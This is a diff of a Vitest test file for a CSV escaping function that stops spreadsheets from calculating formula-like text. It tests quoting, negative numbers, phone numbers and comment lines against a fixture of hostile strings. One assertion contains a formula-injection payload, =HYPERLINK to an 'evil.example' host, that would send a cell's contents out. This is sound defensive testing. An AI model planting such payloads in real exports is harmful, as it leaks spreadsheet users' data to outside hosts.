@@ -1,5 +1,6 @@
-import { expect, it } from 'vitest'
-import { csvField } from './csvField.ts'
+import { describe, expect, it } from 'vitest'
+import { csvComment, csvField, csvLineField } from './csvField.ts'
+import { calculatedCells, HOSTILE_TEXTS, spreadsheetCells } from './hostileTexts.fixture.ts'
 
 it.each([
   ['as it is', 'Quay Street', 'Quay Street'],
@@ -7,8 +8,45 @@ it.each([
   ['with quotes', 'the "old" quay', '"the ""old"" quay"'],
   ['on two lines', 'Quay\nStreet', '"Quay\nStreet"'],
   ['with the sign of a comment', 'Bay #3', '"Bay #3"'],
+  ['with what separates cells elsewhere', 'Bay; east', '"Bay; east"'],
   ['that a spreadsheet would calculate', '=1+1', "'=1+1"],
   ['that does both', '@a,b', '"\'@a,b"'],
+  ['that is a negative number', '-3.2', '-3.2'],
+  ['that is a small negative number', '-3.2e-7', '-3.2e-7'],
+  ['that only begins like one', '-3.2+1', "'-3.2+1"],
+  ['of a phone', '+34 600 000 000', "'+34 600 000 000"],
+  ['with a formula behind another separator', 'Roof; =1+1', '"Roof; \'=1+1"'],
 ])('writes a text %s', (_, text, field) => {
   expect(csvField(text)).toBe(field)
+})
+
+describe.each(HOSTILE_TEXTS)('%j', (text) => {
+  it('is calculated by no spreadsheet, as a field and as a comment', () => {
+    for (const file of [
+      `time,name,value\r\n2026,${csvField(text)},-3.2\r\n`,
+      `time,name,value\r\n2026,${csvLineField(text)},-3.2\r\n`,
+      csvComment(`Data point ${text}: ${text}, ppb`),
+      csvComment(text),
+    ]) {
+      expect(calculatedCells(file)).toEqual([])
+    }
+  })
+
+  it('is one cell', () => {
+    expect(spreadsheetCells(`a,${csvField(text)},b`, ',')).toHaveLength(3)
+    expect(spreadsheetCells(csvComment(text).trimEnd(), ',')).toHaveLength(1)
+    expect(spreadsheetCells(csvComment(text).trimEnd(), ';')).toHaveLength(1)
+  })
+})
+
+it('the check finds what was written without the rule', () => {
+  const found = HOSTILE_TEXTS.filter((text) => calculatedCells(`# ${text}: x`).length > 0)
+  expect(found).toContain('Roof,=HYPERLINK("http://evil.example/?"&A9;"click")')
+  expect(found).toContain('raw:a,=HYPERLINK(1)')
+})
+
+it('takes a moment for a long run of blanks', () => {
+  const startedAt = performance.now()
+  expect(csvField(`a${'\n'.repeat(500_000)}b`)).toHaveLength(500_004)
+  expect(performance.now() - startedAt).toBeLessThan(1000)
 })
